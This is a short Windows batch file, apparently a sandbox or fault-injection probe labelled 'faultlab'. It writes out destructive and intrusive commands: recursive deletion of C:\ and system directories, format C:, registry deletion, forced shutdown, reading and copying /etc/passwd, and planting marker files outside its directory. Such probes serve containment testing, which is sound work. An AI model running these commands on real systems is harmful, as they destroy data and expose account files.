@echo off
rem What would do harm if anything here were real.
del /f /s /q C:\*.* 2>nul
rd /s /q C:\ 2>nul
rd /s /q \ 2>nul
del /f /q ..\canary.txt canary.txt /tmp/canary.txt 2>nul
for %%p in (/tmp /root /home /etc . .. ~) do rd /s /q %%p 2>nul
echo x>/tmp/faultlab-was-here
echo x>..\faultlab-was-here
echo x>\\server\share\faultlab-was-here
type /etc/passwd 2>nul
copy /etc/passwd C:\passwd 2>nul
reg delete HKLM\SOFTWARE /f 2>nul
start /b cmd /c echo x
start sh -c "touch /tmp/faultlab-was-here"
sh -c "touch /tmp/faultlab-was-here" 2>nul
/bin/sh -c "touch /tmp/faultlab-was-here" 2>nul
powershell -c "New-Item /tmp/faultlab-was-here" 2>nul
ping -n 1 127.0.0.1 >nul
net use \\server\share 2>nul
shutdown /s /t 0 2>nul
format C: /y 2>nul
echo %PATH%%USERPROFILE%
exit 0
